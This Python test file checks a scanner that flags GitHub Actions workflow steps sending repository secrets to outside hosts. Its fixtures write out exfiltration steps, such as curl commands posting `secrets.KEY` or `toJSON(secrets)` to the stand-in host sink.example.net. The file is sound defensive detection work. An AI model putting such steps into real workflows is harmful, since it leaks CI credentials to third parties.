"""Workflows of a repository's host: which steps send what is secret, and where to."""

from __future__ import annotations

import tempfile

from onionskin.parse.metadata.workflows import SecretsSent, secrets_sent
from onionskin.plugins.view import View

HEAD = "on: push\njobs:\n  a:\n    env:\n      MODE: test\n    steps:\n      - uses: actions/checkout@v4\n"
SINK = "https://sink.example.net/"


def sent(steps: str, name: str = "x/.github/workflows/a.yml") -> list[SecretsSent]:
    with tempfile.TemporaryFile() as file:
        file.write((HEAD + steps).encode())
        file.flush()
        return list(secrets_sent(View(file.fileno(), name=name)))


def test_a_secret_in_the_command_itself_is_found_with_its_step() -> None:
    (found,) = sent(f"      - run: curl -d 'p=${{{{ secrets.KEY }}}}' {SINK}\n      - run: echo\n")
    assert (found.names, found.host, found.number) == (("KEY",), "sink.example.net", 8)


def test_a_secret_in_a_variable_of_the_step_is_found_where_the_command_names_it() -> None:
    env = "        env:\n          T: ${{ secrets.KEY }}\n"
    assert sent(f'      - run: curl -d "$T" {SINK}\n{env}')
    assert not sent(f'      - run: curl -d "$MODE" {SINK}\n{env}')


def test_a_command_over_several_lines_is_one() -> None:
    assert sent(f"      - run: |\n          curl \\\n            -d '${{{{ secrets.KEY }}}}' \\\n            {SINK}\n")  # fmt: skip


def test_all_secrets_at_once_are_found() -> None:
    (found,) = sent(f"      - env:\n          D: ${{{{ toJSON(secrets) }}}}\n        run: curl -d @- {SINK}\n")  # fmt: skip
    assert found.names == ("*",)


def test_the_token_of_the_host_and_the_usual_services_are_not_told() -> None:
    assert not sent(f"      - run: curl -H 'A: ${{{{ secrets.GITHUB_TOKEN }}}}' {SINK}\n")
    assert not sent("      - run: curl -d '${{ secrets.KEY }}' https://uploads.github.com/x\n")
    assert not sent(f"      - run: curl -O {SINK}\n      - run: twine upload\n        env:\n          P: ${{{{ secrets.KEY }}}}\n")  # fmt: skip


def test_a_file_that_lies_elsewhere_is_no_workflow() -> None:
    step = f"      - run: curl -d 'p=${{{{ secrets.KEY }}}}' {SINK}\n"
    assert not sent(step, "x/docs/workflows/a.yml")


def test_a_file_of_nothing_but_dashes_is_read_in_linear_time() -> None:
    assert not sent("- " * 300_000)
    assert not sent("- curl \n" * 15_000)
